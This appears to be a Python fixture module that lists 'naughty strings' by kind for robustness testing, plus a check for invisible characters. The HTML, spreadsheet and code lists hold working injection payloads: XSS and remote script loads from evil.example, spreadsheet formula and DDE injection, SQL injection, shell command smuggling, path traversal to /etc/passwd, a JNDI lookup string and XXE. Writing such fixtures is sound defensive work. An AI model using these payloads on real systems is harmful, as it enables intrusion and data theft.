"""Strings that a program may take for something else, made here by kind: what people type, paste, and write who mean harm."""

from __future__ import annotations

import unicodedata
from collections.abc import Mapping

PAYLOAD = "alert(1)"
RESERVED = [
    "null",
    "NULL",
    "nil",
    "None",
    "none",
    "undefined",
    "undef",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "true",
    "True",
    "TRUE",
    "false",
    "False",
    "yes",
    "no",
    "on",
    "off",
    "NA",
    "N/A",
    "all",
    "other",
    "pooled",
    "unknown",
    "not_recorded",
    "withheld",
    "self",
    "this",
    "class",
    "def",
    "import",
    "lambda",
    "constructor",
    "__proto__",
    "__init__",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "then",
    "CON",
    "PRN",
    "AUX",
    "NUL",
    "COM1",
    "LPT1",
    ".",
    "..",
    "...",
    "~",
    "-",
    "_",
    "#",
    "$HOME",
    "%PATH%",
    "index",
    "key",
    "value",
    "name",
    "id",
    "select",
    "from",
    "where",
    "group",
    "order",
]
NUMBERS = [
    "0",
    "-0",
    "+0",
    "00",
    "007",
    "1",
    "-1",
    "1.0",
    "1,0",
    "1.000,5",
    "1e5",
    "1E400",
    "-1e-5",
    "0x1F",
    "0b1",
    "0o7",
    "1_000",
    "1/0",
    "0/0",
    "1/2",
    "50%",
    "9007199254740993",
    "99999999999999999999",
    "4294967296",
    "-2147483649",
    "1e309",
    ".5",
    "5.",
    "1..2",
    "1-2",
    "12:30",
    "1:2:3",
    "2023-01-01",
    "01/02/03",
    "1-Mar",
    "Mar-24",
    "1.2E+08",
    "½",
    "②",
    "Ⅷ",
    "٣",
    "७",
    "三",
    "１２",
    "x²",
    "1st",
    "$5",
    "€7",
    "₹9",
    "£1",
]
SPREADSHEET = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "|calc", "%0A=1+1", "'=1+1", '"=1+1"',
    '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")', '=DDE("cmd";"/C calc";"x")', "=WEBSERVICE(A1)", "a;=1+1", "a,=1+1", "a\t=1+1", "#REF!", "#NAME?",
    "#DIV/0!", "sep=,", "1,2,3", "a;b", 'half " quote', '"', '""', '"""', "'", "''", "''''", "a\tb", "a\nb", "a\r\nb", "\\N", "\ufeffa",
)  # fmt: skip
HTML = tuple(
    form.format(PAYLOAD)
    for form in (
        "<script>{}</script>", "</script><script>{}</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
        '"><script>{}</script>', "'><script>{}</script>", '" onmouseover="{}', "' onfocus='{}' autofocus='", "javascript:{}", "JaVaScRiPt:{}", "data:text/html,<script>{}</script>",
        "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>", "<a href='http://evil.example'>x</a>", "<b>bold</b>", "<i>", "</div>", "</td></tr></table>", "</title><script>{}</script>",
        "</style><script>{}</script>", "</textarea><script>{}</script>", "<!--", "-->", "<!-- --><script>{}</script>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<?php echo 1; ?>",
        "<%= 7*7 %>", "<style>*{{display:none}}</style>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>",
        "<form action=//evil.example><input name=q>", "<body onload={}>", "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<object data=x>",
        "<embed src=x>", "<math><mi//xlink:href='data:x'>", "<br>", "a<br>b", "<wbr>", "<span style='color:red'>x</span>", "&lt;b&gt;", "&amp;", "&#60;b&#62;", "&#x3c;", "&nbsp;", "&copy", "&",
        "< b >", "a < b", "a > b", "a << 1 >> b", "<>", "<3", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "%3Cscript%3E", "<scr\x00ipt>{}</script>", "＜script＞{}＜/script＞",
        "<sub>x</sub>", "<sup>x</sup>", "<em>x</em>", "<a\nhref=x>", "<noscript><p title='</noscript><img src=x onerror={}>'>", "%{{y}}", "%{{x:.2f}}<extra></extra>",
    )
)  # fmt: skip
MARKDOWN = (
    "*a*", "**a**", "***", "_a_", "__a__", "~~a~~", "`a`", "``", "```", "```python", "# a", "## a", "a\n===", "===", "---", "***", "- a", "* a", "+ a", "1. a", "1) a", "> a", "| a | b |",
    "|---|---|", "[a](http://evil.example)", "![a](http://evil.example/x.png)", "[a]: http://evil.example", "[^1]", "<http://evil.example>", "http://evil.example", "www.evil.example",
    "a@evil.example", "\\*a\\*", "\\", "\\\\", "a\\", "    code", "\tcode", "- [ ] a", "a  \nb", "a\n\nb", "a\n\n# b", "$x^2$", "$$x^2$$", "$5 and $6", "\\(x\\)", "\\[x\\]", "\\frac{1}{0}",
    "$\\href{javascript:alert(1)}{x}$", ":red[a]", ":red-background[a]", ":blue[a](b)", ":rainbow[a]", ":small[a]", ":gray-badge[a]", ":smile:", ":+1:", ":material/home:", ":streamlit:",
    ":red", ": red[a]", "a:b", "a -> b", "a <- b", "a <-> b", "a -- b", "a >= b", "a ~= b", "->", "<-", "--", "[x]", "[]", "()", "[[a]]", "{a}", "{{a}}", "a|b", "~a~", "^a^", "==a==",
    "^[a]", ":::note", "*a _b* c_", "**a", "a**", "`a", "a`", "[a](", "![", "](", "\\`a\\`", "&ast;a&ast;",
)  # fmt: skip
CODE = (
    "' OR '1'='1", "'; DROP TABLE episodes; --", "1; DELETE FROM patients", "x' UNION SELECT 1 --", "') OR 1=1 --", "/*", "*/", "--", "#", "\\'", "%' --", "SLEEP(5)", "%s", "%d", "%n%n%n", "%x",
    "%(a)s", "%", "%%", "{}", "{0}", "{0.__class__}", "{a!r}", "${x}", "${7*7}", "#{7*7}", "{{7*7}}", "{% raw %}", "{{ config }}", "<%= 7 %>", "*{7*7}", "$(id)", "`id`", "; ls", "&& ls", "| ls",
    "> /tmp/x", "$IFS", "!!", "!x", "\\n", "\\0", "\\x41", "\\u0041", "\\", "-rf", "--help", "-", "--", "~root", "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\x", "\\\\evil\\x", "file:///etc",
    "%2e%2e%2f", "a/b", "a\\b", "a:b", "a?b", "a#b", "a%b", "a*b", "con.txt", ".hidden", "a.", "a ", " a", "!!python/object:os.system", "!!str a", "&a b", "*a", "a: b", "a: {b: c}", "[a, b]", "- a",
    "? a", "a #b", "@a", "`a", "%YAML 1.2", "---", "...", "|", ">", "<<: *a", "{a: 1}", "yes", "0o17", "1:30", "~", "eval(x)", "__import__('os')", "os.system('id')", "require('fs')", "(){ :;}; x",
    "http://evil.example/?a=b&c=d", "//evil.example", "ftp://x", "mailto:a@evil.example", "tel:1", "data:,x", "http://a:b@evil.example", "http://[::1]", "https://xn--80ak6aa92e.com", "${jndi:ldap://evil.example}",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "a\x08b", "\x07", "Set-Cookie: a=b", "a\r\nX: y", "<!ENTITY x SYSTEM 'file:///etc'>", "()", "a=b", "a=b&c=d",
)  # fmt: skip
WORDS = (
    "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ", "ЁЂЃЄЅІЇЈ", "абвгд", "٠١٢٣٤", "⁰⁴⁵₀₁₂", "田中さんにあげて下さい", "パーティーへ行かないか", "和製漢語", "社會科學院", "울란바토르", "𠜎𠜱𠝹", "Ⱥ", "ȺȾ", "ß", "ﬁ", "İ", "ı", "ſ", "Å", "Å",
    "الكل في المجمو عة", "שלום", "مريض", "हिन्दी", "தமிழ்", "বাংলা", "ไทย", "ខ្មែរ", "ქართული", "ελληνικά", "Tiếng Việt", "Zoë", "Zoe\u0308", "O'Brien", "O’Brien", "Müller-Lüdenscheidt", "d'Artagnan", "Nguyễn", "Þór", "Łódź",
    "😀", "👩🏽‍⚕️", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇮🇳", "❤️", "1️⃣", "✋🏿", "🦴", "(╯°□°）╯︵ ┻━┻", "( ͡° ͜ʖ ͡°)", "¯\\_(ツ)_/¯", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "e\u0301\u0302\u0303", "a\u0336b", "\u0300a",
    "ＦＵＬＬ", "ｈａｌｆ", "𝕱𝖗𝖆𝖐", "ⓒⓘⓡ", "Z̐", "∞", "№", "℅", "…", "—", "–", "−", "«a»", "“a”", "‘a’", "„a“", "¿", "¡", "°C", "µg", "m²", "†", "‡", "§", "¶", "•", "★", "☎", "✓",
    "表ポあA鷗", "ヽ༼ຈل͜ຈ༽ﾉ", "𓀀", "\U0010fffd", "\ue000", "\ufffd", "\uffff", "ᚠᛇᚻ", "⠠⠃", "ⵣ", "꙳",
)  # fmt: skip
UNSEEN = tuple(
    f"a{letter}b"
    for letter in (
        *map(chr, (*range(32), 127, *range(0x80, 0xA0, 4), 0xA0, 0xAD, 0x61C, 0x180E, 0x2000, 0x2003, 0x2009, 0x3000, 0xFEFF)),
        *map(
            chr, (*range(0x200B, 0x2010), *range(0x2028, 0x2030), *range(0x2060, 0x2065), *range(0x2066, 0x206A), 0xFFF9, 0xE0041, 0xFE0F)
        ),
    )
)
LONG = ("x" * 61, "x" * 201, "x" * 301, "x" * 1_001, "x" * 40_000, "a " * 500, "word " * 20, "á" * 300, "😀" * 100, "m" * 33_000, "\n" * 200, "=" * 500, "<b>" * 300, "`" * 200, "[" * 200, "W" * 64)  # fmt: skip
BLANK = ("", " ", "  ", "\u00a0", "\u3000", "\u200b", "\u2800", "\u3164")
KINDS: Mapping[str, tuple[str, ...]] = {
    "reserved words": tuple(RESERVED), "numbers": tuple(NUMBERS), "spreadsheets": SPREADSHEET, "HTML": HTML, "Markdown": MARKDOWN, "code": CODE, "words": WORDS, "unseen": UNSEEN, "long": LONG, "blank": BLANK,
}  # fmt: skip
NAUGHTY: tuple[str, ...] = tuple(dict.fromkeys(text for kind in KINDS.values() for text in kind))
LEAST = 515


def is_hiding(text: str) -> bool:
    """True if a reader cannot see all of a text: it holds a sign that has no shape or turns the writing round."""
    return any(unicodedata.category(letter) in ("Cc", "Cf", "Co", "Cn", "Cs", "Zl", "Zp") for letter in text)
